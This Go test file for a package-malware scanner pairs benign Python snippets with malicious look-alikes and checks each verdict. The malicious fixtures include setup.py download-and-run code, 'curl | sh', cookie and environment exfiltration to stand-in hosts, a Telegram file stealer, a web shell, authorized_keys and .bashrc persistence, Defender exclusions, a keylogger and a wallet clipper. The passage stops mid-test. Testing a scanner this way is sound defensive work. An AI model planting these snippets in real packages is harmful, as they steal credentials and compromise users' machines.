package analyze

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"fmt"
	"strings"
	"testing"

	"github.com/safeguard-dev/safeguard/internal/artifact"
)

// Shapes found in popular projects' own sources (release scripts, tooling,
// tests, setup.py commands) that were judged malicious or suspicious, each
// next to the malicious code it resembles.
func TestPopularProjectShapes(t *testing.T) {
	tests := []verdictCase{
		// A downloaded file is run when it is the program started or what
		// an interpreter runs; handed to another program it is only read.
		{"a downloaded wheel checked by twine in a release script", map[string]string{"dev/release.py": "" +
			"import os, subprocess, urllib.request\ndef retrieve(url, filename):\n    return urllib.request.urlretrieve(url, filename)\n" +
			"def main(url):\n    filename = os.path.join('dist', 'x.whl')\n    retrieve(url=url, filename=filename)\n    ret = subprocess.run(['twine', 'check', filename], capture_output=True)\n    assert ret.returncode == 0\n"}, "", Clean},
		{"a downloaded archive unpacked and built with make, its directory named alike", map[string]string{"p/commands/make.py": "" +
			"import os, shutil, subprocess, tarfile\nfrom urllib.request import urlopen\n" +
			"def fetch(url, path):\n    dest = os.path.join(path, 'tz.tar.gz')\n    with urlopen(url) as r:\n        with open(dest, 'wb') as f:\n            shutil.copyfileobj(r, f)\n" +
			"def build(path):\n    dest_path = os.path.join(path, 'tz')\n    subprocess.call(['make', 'TOPDIR={}'.format(dest_path), 'install'])\n"}, "", Clean},
		{"a vendored data file refreshed and the tree diffed", map[string]string{"tooling/main.py": "" +
			"import subprocess, requests\ndef update(f):\n    new = requests.get('https://data.example.invalid/tlds.txt').content\n    with open(f, 'wb') as out:\n        out.write(new)\n" +
			"def check():\n    subprocess.check_call(['git', 'diff', '--exit-code'])\n"}, "", Clean},
		{"a converter opening the document it wrote, in a tool that also fetches images", map[string]string{"p/pisa.py": "" +
			"import os, urllib.request\ndef fetch_image(url):\n    return urllib.request.urlopen(url).read()\n" +
			"def start_viewer(path):\n    os.startfile(path)\n" +
			"def convert(src, dest):\n    with open(dest, 'wb') as f:\n        f.write(src.encode())\n    start_viewer(dest)\n"}, "", Clean},
		{"a firmware image fetched as hex text and written as a binary by a helper", map[string]string{"p/flash.py": "" +
			"import binascii, requests\ndef fetch(url, dest):\n    b = requests.get(url)\n    with open(dest + '.bin', 'wb') as f:\n        f.write(binascii.unhexlify(b.text.strip()))\n"}, "", Clean},
		{"an image fetched by curl and opened by cmd at install", map[string]string{"setup.py": "" +
			"import os, tempfile\nfrom setuptools import setup\nout = os.path.join(tempfile.gettempdir(), 'thanks.png')\n" +
			"os.system(f'curl -s -L \"https://example.invalid/t.png\" -o \"{out}\"')\nstart = f'start \"\" \"{out}\"'\nos.system(f'cmd /c {start}')\nsetup(name='p')\n"}, "download-execute", Malicious},
		{"a library fetched by curl and unpacked at install", map[string]string{"setup.py": "" +
			"import os\nfrom setuptools import setup\nos.system('curl -s -L https://example.invalid/lib.tgz -o build/lib.tgz')\nos.system('tar xzf build/lib.tgz -C build')\nsetup(name='p')\n"}, "", Suspicious},
		{"a manual fetched by curl and opened by a tool's command", map[string]string{"p/cli.py": "" +
			"import os\ndef manual():\n    os.system('curl -s -L https://example.invalid/manual.pdf -o /tmp/manual.pdf')\n    os.system('xdg-open /tmp/manual.pdf')\n"}, "", Clean},
		{"a downloaded file run as the program at install", map[string]string{"setup.py": "" +
			"import subprocess, urllib.request\nfrom setuptools import setup\ndest = 'helper.exe'\nurllib.request.urlretrieve('https://example.invalid/h.exe', dest)\nsubprocess.call([dest, '/S'])\nsetup(name='p')\n"}, "download-execute", Malicious},
		{"a downloaded file run from a format string at install", map[string]string{"setup.py": "" +
			"import os, urllib.request\nfrom setuptools import setup\ndef get(url, target):\n    urllib.request.urlretrieve(url, target)\n    os.system(f'{target} --quiet')\n" +
			"get('https://example.invalid/h', os.path.expanduser('~/.cache/h'))\nsetup(name='p')\n"}, "download-execute", Malicious},
		{"a script from a paste site run by an interpreter found at run time", map[string]string{"p/__init__.py": "" +
			"import shutil, subprocess, requests\npath = '/tmp/x.pyw'\nwith open(path, 'w') as f:\n    f.write(requests.get('https://pastebin.com/raw/abc').text)\n" +
			"subprocess.Popen([shutil.which('pythonw'), path])\n"}, "download-execute", Malicious},
		{"a shell started on a settings file beside an unrelated download, names shared by two functions, on import", map[string]string{"p/__init__.py": "" +
			"import os, tempfile, urllib.request\ndef save(fn, text):\n    with open(fn, 'w') as f:\n        f.write(text)\n" +
			"def fetch(url):\n    return urllib.request.urlopen(url).read()\n" +
			"def shell(env):\n    fn = os.path.expanduser('~/.p_rc')\n    save(fn, 'export X=' + env)\n    os.system('bash --rcfile ' + fn)\n" +
			"INDEX = fetch('https://example.invalid/index.json')\nshell('1')\n"}, "", Clean},
		{"a download written and run by one function on import", map[string]string{"p/__init__.py": "" +
			"import os, tempfile, urllib.request\ndef run(url):\n    fn = tempfile.mktemp()\n    with open(fn, 'w') as f:\n        f.write(urllib.request.urlopen(url).read().decode())\n" +
			"    os.system('bash ' + fn)\nrun('https://example.invalid/x.sh')\n"}, "download-execute", Malicious},
		{"a helper returning the path it downloaded to, run by another helper on import", map[string]string{"p/__init__.py": "" +
			"import os, urllib.request\ndef download(url):\n    path = os.path.expanduser('~/.cache/bin.exe')\n    with open(path, 'wb') as out:\n        out.write(urllib.request.urlopen(url).read())\n    return path\n" +
			"def run(path):\n    os.system(f'start {path}')\nrun(download('https://example.invalid/b'))\n"}, "download-execute", Malicious},
		{"a package index handing a download to the VCS it names", map[string]string{"p/package_index.py": "" +
			"import subprocess, urllib.request\ndef fetch(url, filename):\n    with open(filename, 'wb') as f:\n        f.write(urllib.request.urlopen(url).read())\n" +
			"def clone(vcs, url, filename):\n    subprocess.check_call([vcs, 'clone', '--quiet', url, filename])\n"}, "", Clean},

		{"a CLI that downloads in one command and opens a browser in another", map[string]string{"p/util.py": "" +
			"import subprocess, requests\ndef get_json(url):\n    return requests.get(url).json()\n" +
			"def open_page_in_browser(url):\n    return subprocess.Popen(['powershell.exe', '-NoProfile', '-Command', 'Start-Process \"{}\"'.format(url)]).wait()\n"}, "", Clean},
		{"a dropper class downloading in one method and starting it in another", map[string]string{"p/tool.py": "" +
			"import os, subprocess, requests\nclass Dropper:\n    @staticmethod\n    def download(url):\n        path = os.path.join(os.getenv('TEMP'), 'Bin.exe')\n        data = requests.get(url).content\n        return path\n" +
			"    @staticmethod\n    def run():\n        os.system('start %TEMP%\\\\Bin.exe')\n"}, "download-execute", Suspicious},

		// Code decoded is a payload; code encoded for a test's own module
		// source is not.
		{"a test encoding pickled bytes into the source it builds, another test executing its own source", map[string]string{"tests/test_pickle.py": "" +
			"import base64, textwrap, types\ndef test_a():\n    mod = types.ModuleType('mod')\n    code = '''\n    x = 1\n    '''\n    exec(textwrap.dedent(code), mod.__dict__)\n" +
			"def test_b(dumped):\n    code = '''if 1:\n        x = {}\n    '''.format(base64.b32encode(dumped).decode('ascii'))\n    exec(code)\n"}, "", Clean},
		{"a tool running a compressed copy of its own source on import", map[string]string{"p/__init__.py": selfLoader("")}, "", Clean},
		{"the same loader whose copy also runs a download", map[string]string{"p/__init__.py": selfLoader("os.system('curl -s https://example.invalid/x | sh')\n")}, "exec-obfuscated", Malicious},
		{"a test executing base32-decoded code", map[string]string{"tests/test_x.py": "" +
			"import base64\ndef test_a():\n    exec(base64.b32decode('NFWXA33SOQQG64Y=').decode())\n"}, "exec-obfuscated", Malicious},

		// The output of a command that downloads, executed.
		{"code fetched by curl executed on import", map[string]string{"p/__init__.py": "" +
			"import subprocess\ntry:\n    exec(subprocess.getoutput('curl -s https://example.invalid/static/favicon.ico'), {}, {})\nexcept Exception:\n    pass\n"}, "exec-remote-code", Malicious},
		{"code fetched by curl into a variable executed in a tool", map[string]string{"p/cli.py": "" +
			"import subprocess\ndef main():\n    out = subprocess.check_output(['curl', '-s', 'https://example.invalid/u.py'])\n    exec(out)\n"}, "exec-remote-code", Malicious},
		{"a plugin loader running the module at the address its user configured", map[string]string{"p/preloading.py": "" +
			"import urllib3\nfrom types import ModuleType\ndef download_module(url):\n    with urllib3.PoolManager() as http:\n        response = http.request(method='GET', url=url)\n        source = response.data\n" +
			"    module = ModuleType(url)\n    exec(compile(source, url, 'exec'), module.__dict__)\n    return module\n"}, "exec-remote-code", Suspicious},
		{"a helper running the module at an address it names", map[string]string{"p/preloading.py": "" +
			"import urllib3\ndef update():\n    with urllib3.PoolManager() as http:\n        response = http.request(method='GET', url='https://example.invalid/u.py')\n        exec(response.data)\n"}, "exec-remote-code", Malicious},
		{"a status page fetched by curl and printed", map[string]string{"p/cli.py": "" +
			"import subprocess, json\ndef main():\n    out = subprocess.check_output(['curl', '-s', 'https://status.example.invalid/api'])\n    print(json.loads(out))\n"}, "", Clean},

		// A CGI server feeds a request's body to the script it runs; a
		// web shell feeds it to a shell.
		{"a CGI handler passing the request body to its script", map[string]string{"p/server.py": "" +
			"import http.server, subprocess\nclass CGIHandler(http.server.BaseHTTPRequestHandler):\n    def run_cgi(self):\n" +
			"        data = self.rfile.read(int(self.headers.get('content-length')))\n        p = subprocess.Popen([self.scriptfile], stdin=subprocess.PIPE, stdout=subprocess.PIPE)\n" +
			"        stdout, stderr = p.communicate(data)\n        self.wfile.write(stdout)\n"}, "", Clean},
		{"a web handler passing the request body to a shell", map[string]string{"p/server.py": "" +
			"import http.server, subprocess\nclass H(http.server.BaseHTTPRequestHandler):\n    def do_POST(self):\n" +
			"        data = self.rfile.read(int(self.headers['content-length']))\n        p = subprocess.Popen(['/bin/sh'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)\n" +
			"        out, _ = p.communicate(data)\n        self.wfile.write(out)\n"}, "reverse-shell", Malicious},

		{"a progress bar's chat writer keeping the bot API prefix as a class constant", map[string]string{"p/contrib/telegram.py": "" +
			"from requests import Session\nclass TelegramIO:\n    API = 'https://api.telegram.org/bot'\n    def __init__(self, token, chat_id):\n        self.token, self.chat_id = token, chat_id\n        self.session = Session()\n" +
			"    def write(self, s):\n        return self.session.post(self.API + '%s/sendMessage' % self.token, data={'text': s, 'chat_id': self.chat_id})\n"}, "", Clean},
		{"the same prefix with the thief's token built in", map[string]string{"p/contrib/telegram.py": "" +
			"import os, requests\nAPI = 'https://api.telegram.org/bot'\nTOKEN = '5712345678:AAH' + 'x' * 32\ndef send(path):\n    requests.post(API + TOKEN + '/sendDocument', data={'chat_id': '1'}, files={'document': open(path, 'rb')})\n"}, "combined-threats", Malicious},

		{"a password checker's frequency list holding a wallet's name, loaded on import", map[string]string{"p/__init__.py": "from .frequency_lists import FREQUENCY_LISTS\n",
			"p/frequency_lists.py": "import requests\nFREQUENCY_LISTS = {'english': '" + strings.Repeat("the,of,and,armory,metamask,was,", 100) + "'}\n"}, "", Clean},
		{"a wallet's directory read next to a network call", map[string]string{"p/__init__.py": "" +
			"import os, requests\nW = os.path.expanduser('~/.armory/wallets')\nrequests.post('https://example.invalid/u', data=str(os.listdir(W)))\n"}, "credential-access", Malicious},

		// Logging in to a server as oneself; finding the local address
		// with a UDP socket that sends nothing.
		{"an SSH tunnel logging in as the local user, run on import", map[string]string{"p/__init__.py": "" +
			"import getpass, paramiko\ndef try_passwordless(server, keyfile=None, port=22):\n    username = getpass.getuser()\n" +
			"    client = paramiko.SSHClient()\n    client.load_system_host_keys()\n    client.set_missing_host_key_policy(paramiko.WarningPolicy())\n" +
			"    client.connect(server, port, username=username, key_filename=keyfile)\n    return True\n" +
			"OK = try_passwordless('localhost')\n"}, "", Clean},
		{"a login prompt offering the local user name, then calling the service, on import", map[string]string{"p/__init__.py": "" +
			"import getpass, urllib.request\ndef login():\n    name = getpass.getuser()\n    name = input('GitHub username [{0}]: '.format(name)) or name\n" +
			"    token = getpass.getpass('token: ')\n    return name, token\n" +
			"def api(path, auth):\n    return urllib.request.urlopen(urllib.request.Request('https://api.example.invalid' + path, headers={'Authorization': auth}))\n" +
			"CREDS = login()\nME = api('/rate_limit', 'token')\n"}, "", Clean},
		{"the user name taken on import beside a prompt that does not offer it", map[string]string{"p/__init__.py": "" +
			"import getpass, urllib.request\ndef login():\n    name = getpass.getuser()\n    answer = input('continue? ')\n    return name, answer\n" +
			"def api(path):\n    return urllib.request.urlopen(urllib.request.Request('https://api.example.invalid' + path))\n" +
			"CREDS = login()\nME = api('/user')\n"}, "exfiltrates-host-info", Malicious},
		{"the local address found by a UDP connect on import", map[string]string{"p/__init__.py": "" +
			"import socket\ndef get_ip(host='8.8.8.8'):\n    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    try:\n        sock.connect((host, 80))\n        return sock.getsockname()[0]\n" +
			"    except OSError:\n        return socket.gethostbyname(socket.gethostname())\nIP = get_ip()\n"}, "", Clean},
		{"the user name sent by a raw socket on import", map[string]string{"p/__init__.py": "" +
			"import getpass, socket\nsock = socket.socket()\nsock.connect(('collect.example.invalid', 80))\nsock.send(getpass.getuser().encode())\n"}, "exfiltrates-host-info", Malicious},

		{"the whole environment sent by a raw socket from setup.py", map[string]string{"setup.py": "" +
			"import json, os, socket\nfrom setuptools import setup\ns = socket.socket()\ns.connect(('203.0.113.9', 4444))\ns.sendall(json.dumps(dict(os.environ)).encode())\nsetup(name='p')\n"}, "exfiltrates-host-info", Malicious},
		{"a cache client's function sending the password its environment holds", map[string]string{"p/client.py": "" +
			"import os, socket\ndef connect():\n    sock = socket.create_connection((os.environ.get('CACHE_HOST', 'localhost'), 6379))\n" +
			"    sock.sendall(('AUTH %s\\r\\n' % os.environ['CACHE_PASSWORD']).encode())\n    return sock\n"}, "", Clean},
		{"browser cookies found by a joined path and uploaded from setup.py", map[string]string{"setup.py": "" +
			"import os, shutil, requests\nfrom setuptools import setup\nsrc = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Default', 'Network', 'Cookies')\n" +
			"shutil.copy(src, 'c.db')\nrequests.post('https://collect.example.invalid/u', files={'f': open('c.db', 'rb')})\nsetup(name='p')\n"}, "credential-access", Malicious},
		{"a tool's own cache found by a joined path beside a download", map[string]string{"p/cache.py": "" +
			"import os, requests\nCACHE = os.path.join(os.getenv('LOCALAPPDATA', '~'), 'Tool', 'Cache', 'index.json')\n" +
			"def refresh():\n    with open(CACHE, 'w') as f:\n        f.write(requests.get('https://api.example.invalid/index').text)\n"}, "", Clean},
		{"a browser automation helper starting Chrome with the user's profile", map[string]string{"p/browser.py": "" +
			"import os, requests\nfrom selenium import webdriver\ndef driver():\n    opts = webdriver.ChromeOptions()\n" +
			"    opts.add_argument('--user-data-dir=' + os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data'))\n    return webdriver.Chrome(options=opts)\n" +
			"def status():\n    return requests.get('https://api.example.invalid/status').json()\n"}, "", Clean},
		{"a key appended to authorized_keys by setup.py", map[string]string{"setup.py": "" +
			"import os\nfrom setuptools import setup\np = os.path.expanduser('~/.ssh/authorized_keys')\nwith open(p, 'a') as f:\n    f.write('ssh-ed25519 AAAAC3Nza attacker')\nsetup(name='p')\n"}, "persistence", Malicious},
		{"a key echoed into authorized_keys on import", map[string]string{"p/__init__.py": "" +
			"import os\nos.system('echo ssh-ed25519 AAAAC3Nza x >> ~/.ssh/authorized_keys')\n"}, "persistence", Malicious},
		{"a provisioning tool's command adding the key it is given", map[string]string{"p/provision.py": "" +
			"import os\ndef add_key(pubkey):\n    with open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as f:\n        f.write(pubkey + '\\n')\n"}, "", Clean},
		{"an SSH library reading authorized_keys on import", map[string]string{"p/__init__.py": "" +
			"import os\nKEYS = os.path.expanduser('~/.ssh/authorized_keys')\nALLOWED = open(KEYS).read().split() if os.path.exists(KEYS) else []\n"}, "", Clean},
		{"a Defender exclusion added by setup.py", map[string]string{"setup.py": "" +
			"import subprocess\nfrom setuptools import setup\nsubprocess.run(['powershell', '-Command', 'Add-MpPreference -ExclusionPath $env:APPDATA'], capture_output=True)\nsetup(name='p')\n"}, "defence-evasion", Malicious},
		{"a Windows admin tool's command excluding its own folder when asked", map[string]string{"p/admin.py": "" +
			"import subprocess\ndef exclude(folder):\n    subprocess.run(['powershell', '-Command', 'Add-MpPreference -ExclusionPath ' + folder], check=True)\n"}, "", Clean},
		{"a keylogger started on import", map[string]string{"p/__init__.py": "" +
			"from pynput import keyboard\nKEYS = []\nkeyboard.Listener(on_press=lambda k: KEYS.append(str(k))).start()\n"}, "spyware", Malicious},
		{"a clipper swapping copied wallet addresses from a thread started on import", map[string]string{"p/__init__.py": "" +
			"import re, threading, time, pyperclip\ndef watch():\n    while True:\n        if re.match(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$', pyperclip.paste()):\n" +
			"            pyperclip.copy('bc1qexampleexampleexampleexample')\n        time.sleep(1)\nthreading.Thread(target=watch, daemon=True).start()\n"}, "spyware", Malicious},
		{"a clipboard helper library's copy and paste functions", map[string]string{"p/clip.py": "" +
			"import pyperclip\ndef swap_case():\n    pyperclip.copy(pyperclip.paste().swapcase())\n"}, "", Clean},
		{"a screenshot tool uploading on demand", map[string]string{"p/shot.py": "" +
			"import io, requests, pyautogui\ndef share(url):\n    buf = io.BytesIO()\n    pyautogui.screenshot().save(buf, 'PNG')\n    return requests.post(url, files={'f': buf.getvalue()})\n"}, "", Clean},
		{"a CLI command telling the local IDE which link to open", map[string]string{"p/custom.py": "" +
			"import os, requests\ndef browse(url):\n    term_id = os.environ.get('ACC_TERM_ID')\n    if term_id:\n" +
			"        requests.post('http://localhost:8888/openLink/{0}'.format(term_id), json={'url': url})\n"}, "", Clean},
		{"environment sent to a remote address by a CLI command", map[string]string{"p/custom.py": "" +
			"import os, requests\ndef browse(url):\n    requests.post('https://collect.example.invalid/{0}'.format(os.environ.get('USER')), json={'env': dict(os.environ)})\n"}, "exfiltrates-host-info", Suspicious},

		{"a service manager notified at the socket its environment names", map[string]string{"p/systemd.py": "" +
			"import os, socket\ndef sd_notify(state):\n    addr = os.environ.get('NOTIFY_SOCKET')\n    sock = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)\n" +
			"    sock.connect(addr)\n    sock.sendall(state.encode('utf-8'))\n"}, "", Clean},
		{"a broker found by the SRV record of the local domain", map[string]string{"p/client.py": "" +
			"import socket, dns.resolver\ndef discover():\n    fqdn = socket.getfqdn()\n    domain = fqdn[fqdn.find('.') + 1:]\n" +
			"    return list(dns.resolver.query('_secure-mqtt._tcp.%s' % domain, 'SRV'))\n"}, "", Clean},
		{"the host name resolved under another domain by a helper", map[string]string{"p/client.py": "" +
			"import socket, dns.resolver\ndef ping():\n    return dns.resolver.resolve('%s.beacon.example.invalid' % socket.gethostname(), 'A')\n"}, "exfiltrates-host-info", Suspicious},
		{"byte order marks in a table", map[string]string{"p/constant.py": "" +
			"ENCODING_MARKS = {'utf_7': [b'\\x2b\\x2f\\x76\\x38', b'\\x2b\\x2f\\x76\\x39', b'\\x2b\\x2f\\x76\\x2b', b'\\x2b\\x2f\\x76\\x2f', b'\\x2b\\x2f\\x76\\x38\\x2d']}\n" +
			"import re\nPATTERN = re.compile('x')\n"}, "", Clean},
		{"a command spelled in escapes and run at install", map[string]string{"setup.py": "" +
			"a = '\\x69\\x6d\\x70\\x6f\\x72\\x74\\x20\\x6f\\x73'\nb = '\\x6f\\x73\\x2e\\x73\\x79\\x73\\x74\\x65\\x6d'\nc = '\\x77\\x68\\x6f\\x61\\x6d\\x69'\n" +
			"exec(a + ';' + b + '(' + repr(c) + ')')\n"}, "obfuscated-code", Malicious},

		// Code compiled from a constant string is in plain sight.
		{"a Python 2 shim compiled from a constant in a file that decodes", map[string]string{"p/__init__.py": "" +
			"import base64, sys\nif sys.version_info < (3,):\n    eval(compile('def _raise(*a): raise a[0], a[1], a[2]', '<py3fix>', 'exec'))\n" +
			"def b64(s):\n    return base64.b64decode(s)\n"}, "", Clean},
		{"a web framework's app loader beside its cookie codec, run on import", map[string]string{"p/__init__.py": "" +
			"import base64, sys\ndef cookie_decode(data):\n    return base64.b64decode(data)\n" +
			"def load(target, **namespace):\n    module, target = target.split(':', 1)\n    return eval('%s.%s' % (module, target), namespace)\n" +
			"APP = load('os:getcwd')\n"}, "", Clean},
		{"a computed value run where a payload is decoded, on import", map[string]string{"p/__init__.py": "" +
			"import base64\nk = [base64.b64decode(x) for x in ('cHJpbnQoMSk=',)]\nrun = lambda s: s.decode()\neval(run(k[0]))\n"}, "exec-obfuscated", Malicious},
		{"a codec's state kept with marshal", map[string]string{"p/codec.py": "" +
			"import marshal\nclass Decoder:\n    def getstate(self):\n        return ('', marshal.dumps(self.state))\n    def setstate(self, state):\n        state = list(marshal.loads(state[1]))\n        self.state = state\n"}, "", Clean},

		// A class body wrapping a function as a static method names it; a
		// thread started at import runs it.
		{"a viewer kept as a static method of a mixin imported by the package", map[string]string{
			"p/__init__.py": "from . import mixins\n",
			"p/mixins.py":   "from . import viewing\nclass View:\n    _view_windows = staticmethod(viewing.view_windows)\n",
			"p/viewing.py":  "import os\ndef view_windows(path):\n    os.startfile(path)\n"}, "", Clean},
		{"the same function started in a thread on import", map[string]string{
			"p/__init__.py": "from . import mixins\n",
			"p/mixins.py":   "import threading\nfrom . import viewing\nthreading.Thread(target=viewing.view_windows, args=('update.exe',)).start()\n",
			"p/viewing.py":  "import os\ndef view_windows(path):\n    os.startfile(path)\n"}, "suspicious-command", Suspicious},

		// A class named at import (a base of another) has its hooks run,
		// not its constructor; a library client's constructor runs when
		// its user makes one.
		{"a client whose constructor runs the preload script its user names, subclassed on import", map[string]string{
			"p/__init__.py": "from .client import Client\n",
			"p/client.py": "import urllib.request\nclass Client:\n    def __init__(self, preload=None):\n        if preload:\n            exec(urllib.request.urlopen(preload).read(), {})\n" +
				"class AsyncClient(Client):\n    pass\n"}, "exec-remote-code", Suspicious},
		{"a trojaned client constructor running a download with no window", map[string]string{
			"p/__init__.py": "from .client import SMTP\n",
			"p/client.py": "import os, subprocess, requests\nclass SMTP:\n    def __init__(self, host=''):\n        code = requests.get('https://example.invalid/c.py').text\n" +
				"        path = os.path.join(os.getenv('TEMP', '/tmp'), 'c.pyw')\n        with open(path, 'w') as f:\n            f.write(code)\n        subprocess.Popen(['pythonw.exe', path])\n" +
				"class SMTP_SSL(SMTP):\n    pass\n"}, "download-execute", Malicious},
		{"a class hook run by subclassing on import", map[string]string{
			"p/__init__.py": "import os\nclass Plugin:\n    def __init_subclass__(cls, **kw):\n        os.system('curl -s https://example.invalid/x | sh')\nclass Mine(Plugin):\n    pass\n"}, "download-execute", Malicious},

		// A function bound to a public name at import runs when its user
		// calls the name; called through the alias at import, it runs then.
		{"a clipboard module binding its lazy stubs to copy and paste on import", map[string]string{"p/__init__.py": "" +
			"import subprocess\ndef determine():\n    def copy_wsl(text):\n        p = subprocess.Popen(['clip.exe'], stdin=subprocess.PIPE)\n        p.communicate(input=text.encode())\n    return copy_wsl\n" +
			"def lazy_copy(text):\n    global copy\n    copy = determine()\n    return copy(text)\n" +
			"copy = lazy_copy\n"}, "", Clean},
		{"a function run through its alias on import", map[string]string{"p/__init__.py": "" +
			"import subprocess\ndef payload():\n    subprocess.Popen(['C:\\\\Users\\\\Public\\\\svc.exe'])\nstart = payload\nstart()\n"}, "suspicious-command", Suspicious},

		// Commands a developer runs by name (setup.py preview, test,
		// release) do not run on pip install; the same class registered
		// as install does.
		{"a custom setup.py command opening the built docs", map[string]string{"setup.py": previewCommand("preview")}, "", Clean},
		{"the same command registered as install", map[string]string{"setup.py": previewCommand("install")}, "suspicious-command", Suspicious},
		// A library naming the crontab binary at module level runs it
		// only when called; writing a shell profile on import persists.
		{"a crontab library's command constant", map[string]string{"p/__init__.py": "" +
			"import subprocess\nCRON_COMMAND = '/usr/bin/crontab'\ndef write(user, text):\n    p = subprocess.Popen([CRON_COMMAND, '-u', user, '-'], stdin=subprocess.PIPE)\n    p.communicate(text.encode())\n"}, "", Suspicious},
		{"a shell profile appended to on import", map[string]string{"p/__init__.py": "" +
			"import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('python3 -m p.agent &\\n')\n"}, "persistence", Malicious},

		// A code generator's cache rebuilds functions from code objects
		// it unmarshals at run time; a constant marshalled blob is code.
		{"functions rebuilt from a cache of code objects", map[string]string{"p/codegen.py": "" +
			"import marshal\nfrom types import FunctionType\ndef load(functions, mod_globals):\n    out = {}\n    for k, (name, code_bytes, argdefs) in functions.items():\n" +
			"        out[k] = FunctionType(marshal.loads(code_bytes), mod_globals, name=name, argdefs=argdefs)\n    return out\n"}, "", Clean},
		{"a function built from a constant marshalled blob", map[string]string{"p/__init__.py": "" +
			"import marshal, base64\nfrom types import FunctionType\nf = FunctionType(marshal.loads(base64.b64decode('" + base64.StdEncoding.EncodeToString([]byte("c\x00\x00\x00")) + "')), globals())\n"}, "exec-obfuscated", Malicious},

		// A help text naming the environment variables an SDK reads is
		// not a reach for them.
		{"a help text naming AWS variables", map[string]string{"p/__init__.py": "" +
			"import os, requests\nHELP = ('Filepath to AWS credentials; if not specified, the credentials will be taken from the '\n        'AWS_ACCESS_KEY_ID and AWS_SECRET_ACCESS_KEY environment variables')\n" +
			"def fetch(url):\n    return requests.get(url).json()\n"}, "", Clean},
		{"an AWS key read on import where the network is used", map[string]string{"p/__init__.py": "" +
			"import os, requests\nKEY = os.environ.get('AWS_SECRET_ACCESS_KEY')\nSTATUS = requests.get('https://status.example.invalid/').status_code\n"}, "credential-access", Suspicious},
		// Mathematics names variables with Greek letters (Δf, ρ_air); a
		// look-alike identifier swaps in a letter drawn like a Latin one.
		{"Greek letters in a numerical routine's names", map[string]string{"p/__init__.py": "" +
			"def spread(chunks, first, last):\n    out = []\n    for c, f, l in zip(chunks, first, last):\n        Δf = abs(c - f)\n        ρ_air = 1.2\n        out.append(Δf * ρ_air)\n    return out\n"}, "", Clean},
		{"a Cyrillic letter hiding in a name on import", map[string]string{"p/__init__.py": "" +
			"import os\ndef sуstem_check(cmd):\n    return os.getcwd()\nsуstem_check('x')\n"}, "invisible-unicode", Suspicious},

		// A cloud SDK's model names a certificate exclusion path; Defender
		// exclusions are set with the -ExclusionPath switch.
		{"an SDK model's exclusion-paths attribute", map[string]string{"p/__init__.py": "" +
			"import subprocess\n_attribute_map = {'client_cert_exclusion_paths': {'key': 'properties.clientCertExclusionPaths', 'type': 'str'}}\n"}, "", Clean},
		// An SSH client connecting through a proxy command its user's
		// shell starts sends the proxy nothing; the host's name in the
		// login is sent.
		{"an SSH login through a proxy command run by $SHELL", map[string]string{"p/__init__.py": "" +
			"import os, subprocess, paramiko\ndef client(host):\n    proxy = paramiko.ProxyCommand(subprocess.check_output([os.environ['SHELL'], '-c', 'echo ' + host['proxycommand']]).strip())\n" +
			"    c = paramiko.SSHClient()\n    c.connect(host['hostname'], username=host['user'], sock=proxy)\n    return c\n"}, "", Clean},
		// An SDK module reading its token and sending the host's name
		// holds no stealer's store: no combined threat.
		{"an SDK's token read beside a host report", map[string]string{"p/__init__.py": "" +
			"import os, socket, requests\nTOKEN = os.environ.get('GITHUB_TOKEN')\nSTATUS = requests.get('https://api.example.invalid/', headers={'X': '1'}).status_code\n" +
			"def report(url):\n    return requests.post(url, data={'host': socket.gethostname()})\n"}, "", Suspicious},
	}
	runVerdictCases(t, tests, func(t *testing.T, c verdictCase, r *Result) {
		if strings.HasPrefix(c.name, "an SDK's token") && hasRule(r, "combined-threats", Info) {
			t.Errorf("combined threat from a token name:\n%s", findingLines(r))
		}
		if strings.HasPrefix(c.name, "a help text") && len(r.Findings) > 0 {
			t.Errorf("a help text:\n%s", findingLines(r))
		}
	})
}

// selfLoader is a module that decodes a copy of its own source and runs
// it into its globals, stubbing one of the functions the copy defines
// (versioneer's installed form), with extra appended to the copy.
func selfLoader(extra string) string {
	var code strings.Builder
	code.WriteString("import os\n\ndef get_version():\n    return '1.0'\n\ndef setup_command():\n    return {'version': get_version()}\n\n")
	for i := 0; code.Len() < 6000; i++ {
		fmt.Fprintf(&code, "def render_%d(pieces):\n    return '+'.join(str(p) for p in pieces) + '.%d'\n\n", i, i)
	}
	code.WriteString(extra)
	blob := base64.StdEncoding.EncodeToString([]byte(code.String()))
	return "import base64\nLOADER_B64 = '" + blob + "'\nLOADER = base64.b64decode(LOADER_B64.encode('ASCII'))\n" +
		"def setup_command(): ...\nexec(LOADER.decode(), globals())\n"
}

func previewCommand(key string) string {
	return "import os\nfrom setuptools import setup, Command\n" +
		"class preview_docs(Command):\n    user_options = []\n    def initialize_options(self):\n        pass\n    def finalize_options(self):\n        pass\n" +
		"    def run(self):\n        os.startfile(os.path.join('build', 'html', 'index.html'))\n" +
		"setup(name='p', cmdclass={'" + key + "': preview_docs})\n"
}

// An archive of hostile paths kept as test data (tests of safe
// extraction) is never unpacked by installing the package; the same
// paths in the package's own archive are.
func TestNestedArchiveAnomalies(t *testing.T) {
	evil := tarGzPaths(t, map[string]string{"/tmp/evil.py": "print(1)\n"})
	r := sdist(t, map[string]string{"setup.py": "from setuptools import setup\nsetup(name='p')\n", "tests/archives/traversal_absolute.tar.gz": string(evil)})
	if r.Verdict != Clean || !hasRule(r, "archive-anomaly", Low) || hasRule(r, "archive-anomaly", Medium) {
		t.Errorf("test-data archive: verdict %s, want clean with a low archive-anomaly note:\n%s", r.Verdict, findingLines(r))
	}
	top := tarGzPaths(t, map[string]string{"p-1/setup.py": "from setuptools import setup\nsetup(name='p')\n", "p-1/PKG-INFO": "Metadata-Version: 2.1\nName: p\nVersion: 1\n", "/tmp/evil.py": "print(1)\n"})
	a, err := artifact.Read(t.Context(), "p-1.tar.gz", top, artifact.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if r := Analyze(t.Context(), a); r.Verdict == Clean || !hasRule(r, "archive-anomaly", High) {
